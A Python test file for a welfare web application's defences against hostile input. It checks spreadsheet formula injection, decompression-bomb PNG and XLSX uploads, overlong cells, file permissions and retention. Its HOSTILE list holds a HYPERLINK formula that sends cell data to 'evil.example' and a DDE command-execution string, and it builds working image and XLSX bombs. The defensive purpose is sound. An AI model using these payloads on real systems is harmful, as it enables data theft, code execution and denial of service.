"""Hostile input that costs too much or outlives its purpose: formulas in exported spreadsheets,
XLSX bombs, huge-dimension survival frames, and the files the application leaves on disk."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from openpyxl import load_workbook

from server.spreadsheets import FORMULA_STARTS, safe_cell
from tests.exports.support import error_file, exported
from tests.support import post_form, sql, staff_login
from tests.verification.test_pages import signed_in, upload
from tests.verification.test_rules import NUM, register

SERVER = Path(__file__).resolve().parents[2] / "server"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1+2",
    "＠SUM(A1)",
]


def live_formula(value) -> bool:
    """What a spreadsheet program would run: text starting with a formula character that is not
    just a number."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not re.fullmatch(r"[+-]?\d+(\.\d+)?", value)
    )


def test_safe_cell_keeps_numbers_and_plain_text_and_defuses_formulas():
    assert [safe_cell(v) for v in (12, 3.5, "-12.50", "+86", "张三", "", None)] == [
        12,
        3.5,
        "-12.50",
        "+86",
        "张三",
        "",
        None,
    ]
    for value in HOSTILE:
        assert safe_cell(value) == "'" + value
    assert safe_cell("王\x01五\x1f") == "王五"  # would make openpyxl refuse the whole export


def test_no_spreadsheet_is_written_anywhere_but_through_server_spreadsheets():
    """The whole class: a new export written with csv.writer or an openpyxl Workbook elsewhere in
    server/ fails here (synth.py writes generated test data only)."""
    offenders = []
    for path in SERVER.rglob("*.py"):
        if path.name in ("spreadsheets.py", "synth.py"):
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|xlsxwriter", text):
            offenders.append(str(path.relative_to(SERVER)))
    assert offenders == []


def test_payment_roll_csv_and_xlsx_carry_no_live_formula_and_amounts_stay_numbers(client, demo):
    heads = sql(
        demo,
        "SELECT DISTINCT h.head_person_id FROM households h JOIN enrolments e ON e.household_id = h.id "
        "WHERE e.region_code LIKE '331102%' AND e.status = 'active' ORDER BY 1",
    )
    assert heads
    for i, (person_id,) in enumerate(heads):
        sql(demo, "UPDATE persons SET name = :n WHERE id = :i", n=HOSTILE[i % len(HOSTILE)], i=person_id)
    staff_login(client, "district")
    made = post_form(
        client,
        "/office/assistance/payments",
        {"month": "2026-12", "region_code": "331102"},
        follow_redirects=False,
    )
    roll = made.headers["location"].rsplit("/", 1)[1]
    text = exported(client, demo, "payment_roll", roll, "csv", "district", "city").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    names = [r[2] for r in rows[1:-1]]
    assert names and not any(live_formula(c) for r in rows for c in r)
    assert {n.lstrip("'") for n in names} <= set(HOSTILE)
    assert all(re.fullmatch(r"\d+\.\d\d", r[5]) for r in rows[1:])
    xlsx = exported(client, demo, "payment_roll", roll, "xlsx", "district", "city")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not any(c.data_type == "f" or live_formula(c.value) for c in cells)
    amounts = [row[5].value for row in sheet.iter_rows(min_row=2)]
    assert amounts and all(isinstance(a, (int, float)) for a in amounts)


def test_verification_error_file_carries_no_live_formula(client, demo):
    register(demo)
    signed_in(client, demo)
    bad = NUM["b"][:17] + ("0" if NUM["b"][17] != "0" else "1")
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerows(
        [
            ["公民身份号码", "姓名", "死亡日期"],
            *([bad, v, "2026-10-01"] for v in HOSTILE),
            ["=1+1", "=2+2", "@now"],
        ]
    )
    response = upload(client, "deaths", out.getvalue().encode())
    errors = error_file(client, demo, response.headers["location"])
    assert errors.status_code == 200
    rows = list(csv.reader(io.StringIO(errors.content.decode("utf-8-sig"))))
    assert len(rows) >= len(HOSTILE) + 1
    assert not any(live_formula(c) for r in rows for c in r)
    assert {r[3].lstrip("'") for r in rows[1:]} >= set(HOSTILE)


# ------------------------------------------------------------------------- survival frames


def huge_png(width: int = 6000, height: int = 6666) -> bytes:
    """A grey PNG declaring width×height pixels, a few tens of KB on disk (zeros compress well)."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    squeeze = zlib.compressobj(9)
    row = bytes(width + 1)
    body = b"".join(squeeze.compress(row) for _ in range(height)) + squeeze.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def test_survival_frames_larger_than_the_capture_are_refused_before_decoding(client, demo, monkeypatch):
    from PIL import ImageFile

    from server import clock
    from tests.support import citizen_login
    from tests.survival.test_flow import challenge
    from tests.survival.test_flow import upload as upload_frames

    bomb = huge_png()
    assert len(bomb) * 15 < 1024 * 1024
    decoded = []
    real_load = ImageFile.ImageFile.load
    monkeypatch.setattr(
        ImageFile.ImageFile, "load", lambda self: decoded.append(self.size) or real_load(self)
    )
    client.app.state.today = lambda: clock.today()
    citizen_login(client, demo, "13800000001")
    c = challenge(client)
    result = upload_frames(client, c["nonce"], [bomb] * 15)
    assert result.status_code == 201 and result.json()["decision"] == "fail"
    assert [s for s in decoded if max(s) > 640] == []  # no pixel of the huge frames was decoded
    assert "too_large" in str(sql(demo, "SELECT reasons FROM survival_checks")[0][0])
    assert "超过拍摄规格" in client.get(result.json()["url"]).text


# ------------------------------------------------------------------------------ XLSX bombs


def xlsx_bomb(cell_mb: int = 64) -> bytes:
    """A real workbook (openpyxl can open it) whose one cell holds ``cell_mb`` MB of one letter:
    about a thousandth of that on disk."""
    import zipfile

    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["公民身份号码", "姓名", "死亡日期"])
    book.active.append(["X", "Y", "2026-10-01"])
    plain = io.BytesIO()
    book.save(plain)
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(plain.getvalue())) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                head, tail = data.split(b"</sheetData>")
                with dst.open(info.filename, "w", force_zip64=True) as member:
                    member.write(head + b'<row r="3"><c r="A3" t="inlineStr"><is><t>')
                    chunk = b"A" * (1 << 20)
                    for _ in range(cell_mb):
                        member.write(chunk)
                    member.write(b"</t></is></c></row></sheetData>" + tail)
            else:
                dst.writestr(info, data)
    return out.getvalue()


def test_an_xlsx_bomb_is_refused_from_its_zip_directory_without_unpacking(client, demo):
    import tracemalloc

    bomb = xlsx_bomb(64)
    assert len(bomb) < 200_000
    signed_in(client, demo)
    tracemalloc.start()
    try:
        response = upload(client, "deaths", bomb, filename="死亡.xlsx")
        page = client.get(response.headers["location"])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert 'data-status="failed"' in page.text and "可能是恶意构造的文件" in page.text
    assert peak < 32 << 20, f"{peak >> 20} MB held while refusing a 64 MB cell"
    client.cookies.set("lang", "en")
    assert "built to harm the server" in client.get(response.headers["location"]).text


def test_overlong_cells_are_kept_out_and_cut_and_too_many_rows_refuse_the_file(client, demo, monkeypatch):
    from server.verification import imports_service as loader

    register(demo)
    signed_in(client, demo)
    long_name = "长" * 5000
    content = f"公民身份号码,姓名,死亡日期\n{NUM['a']},{long_name},2026-10-01\n{NUM['b']},钱小河,2026-10-01\n"
    response = upload(client, "deaths", content.encode())
    page = client.get(response.headers["location"])
    assert 'id="rows-accepted">1<' in page.text and 'id="rows-rejected">1' in page.text
    errors = error_file(client, demo, response.headers["location"]).content.decode("utf-8-sig")
    assert "超过 1000 个字符" in errors and long_name not in errors and "长" * 1000 in errors
    assert sql(demo, "SELECT count(*) FROM verification_records WHERE length(name) > 1000")[0][0] == 0
    # a CSV field past csv's own limit is refused in plain words, not a server error
    huge = f'公民身份号码,姓名,死亡日期\n{NUM["a"]},"{"x" * 200_000}",2026-10-01\n'
    page = client.get(upload(client, "deaths", huge.encode()).headers["location"])
    assert 'data-status="failed"' in page.text and "无法按 CSV 读取" in page.text
    monkeypatch.setattr(loader, "MAX_ROWS", 2)
    rows = "".join(f"{NUM[k]},某某,2026-10-01\n" for k in ("a", "b", "c"))
    response = upload(client, "deaths", ("公民身份号码,姓名,死亡日期\n" + rows).encode())
    page = client.get(response.headers["location"])
    assert 'data-status="failed"' in page.text and "请分成几个文件上传" in page.text
    imp = response.headers["location"].rsplit("/", 1)[1]
    assert sql(demo, "SELECT count(*) FROM verification_records WHERE import_id = :i", i=int(imp))[0][0] == 0


# ------------------------------------------------------------------------- files on disk


def _bad_and_good_rows() -> bytes:
    bad = NUM["b"][:17] + ("0" if NUM["b"][17] != "0" else "1")
    return f"公民身份号码,姓名,死亡日期\n{NUM['a']},赵大山,2026-10-01\n{bad},钱小河,2026-10-01\n".encode()


def test_every_file_the_application_writes_is_owner_only(client, demo, settings):
    import os

    from PIL import Image

    from server.notifications.service import vapid_private_pem

    old = os.umask(0o022)  # the usual umask: without care, files come out 0644 and folders 0755
    try:
        register(demo)
        signed_in(client, demo)
        location = upload(client, "deaths", _bad_and_good_rows()).headers["location"]
        assert 'id="rows-rejected">1' in client.get(location).text
        photo, exif = io.BytesIO(), Image.Exif()
        exif[0x8825] = {1: "N", 2: (28.0, 27.0, 18.0), 3: "E", 4: (119.0, 55.0, 30.0)}  # inside 天宁社区
        Image.new("RGB", (400, 300), (90, 120, 150)).save(photo, "JPEG", exif=exif)
        client.get("/report")
        made = client.post(
            "/report",
            data={"situation": "homeless", "_csrf_token": client.cookies.get("huimin_csrf")},
            files={"photo": ("p.jpg", photo.getvalue(), "image/jpeg")},
            follow_redirects=False,
        )
        assert made.status_code == 303
        vapid_private_pem(settings)
    finally:
        os.umask(old)
    seen = {p.relative_to(settings.var_dir).parts[0] for p in settings.var_dir.rglob("*") if p.is_file()}
    assert {"verification", "uploads"} <= seen
    loose = {
        str(p.relative_to(settings.var_dir)): oct(p.stat().st_mode & 0o777)
        for p in settings.var_dir.rglob("*")
        if p.stat().st_mode & 0o777 != (0o700 if p.is_dir() else 0o600)
    }
    assert loose == {}


def test_no_file_is_written_anywhere_but_through_server_files():
    """The whole class: writing a file or making a folder in server/ goes through server.files
    (standard.py writes the public standard into docs/, synth.py generated test data)."""
    pattern = re.compile(
        r"\.write_bytes\(|\.write_text\(|\bopen\([^)]*[\"'][wax]b?\+?[\"']|\.mkdir\(|shutil\.copy|os\.open\("
    )
    offenders = []
    for path in SERVER.rglob("*.py"):
        if path.name in ("files.py", "standard.py", "synth.py"):
            continue
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if pattern.search(line):
                offenders.append(f"{path.relative_to(SERVER)}:{n}: {line.strip()}")
    assert offenders == []


def test_department_files_hold_no_plain_id_number_and_the_error_file_still_downloads(client, demo, settings):
    register(demo)
    signed_in(client, demo)
    location = upload(client, "deaths", _bad_and_good_rows()).headers["location"]
    assert 'id="rows-accepted">1<' in client.get(location).text
    files = [p for p in (settings.var_dir / "verification").iterdir() if p.is_file()]
    assert len(files) == 2  # the upload, kept for the retention period, and the error file
    for path in files:
        data = path.read_bytes()
        for key in ("a", "b"):
            assert NUM[key][:17].encode() not in data
        assert "赵大山".encode() not in data and "赵大山".encode("gb18030") not in data
    errors = error_file(client, demo, location).content.decode("utf-8-sig")
    assert NUM["b"][:17] in errors and "校验位不正确" in errors
    # changed on disk: refused, never served as if it were the file
    error_path = next(p for p in files if p.name.startswith("errors-"))
    raw = bytearray(error_path.read_bytes())
    raw[-5] ^= 1
    error_path.write_bytes(bytes(raw))
    damaged = error_file(client, demo, location)
    assert (
        damaged.status_code == 500 and "已损坏或被改动" in damaged.text and NUM["b"][:17] not in damaged.text
    )


def test_department_files_are_deleted_after_the_retention_and_refused_uploads_at_once(client, demo, settings):
    import os
    import time
    from dataclasses import replace

    from click.testing import CliRunner

    from server.cli import main
    from server.verification.service import purge_files
    from tests.support import in_db

    register(demo)
    signed_in(client, demo)
    refused = upload(client, "deaths", f"姓名\n{NUM['a']}\n".encode())
    assert 'data-status="failed"' in client.get(refused.headers["location"]).text
    folder = settings.var_dir / "verification"
    assert list(folder.iterdir()) == []  # the refused file is gone as soon as the import ends
    old = upload(client, "deaths", _bad_and_good_rows()).headers["location"]
    aged = time.time() - 31 * 86400
    for path in folder.iterdir():
        os.utime(path, (aged, aged))
    new = upload(client, "deaths", _bad_and_good_rows()).headers["location"]
    assert len(list(folder.iterdir())) == 4
    kept_longer = replace(settings, raw_import_retention_days=40)
    assert in_db(settings, lambda s: purge_files(s, kept_longer)) == 0
    env = {
        "DATABASE_URL": settings.database_url,
        "HUIMIN_VAR_DIR": str(settings.var_dir),
        "HUIMIN_SECRET_KEY": settings.secret_key,
        "HUIMIN_RAW_IMPORT_RETENTION_DAYS": "30",
    }
    result = CliRunner().invoke(main, ["worker", "--once"], env=env)
    assert result.exit_code == 0, result.output
    assert len(list(folder.iterdir())) == 2
    assert error_file(client, demo, old).status_code == 404
    assert error_file(client, demo, new).status_code == 200
    # the import itself, its rows and its warnings stay: only the department's file is gone
    assert 'id="rows-accepted">1<' in client.get(old).text
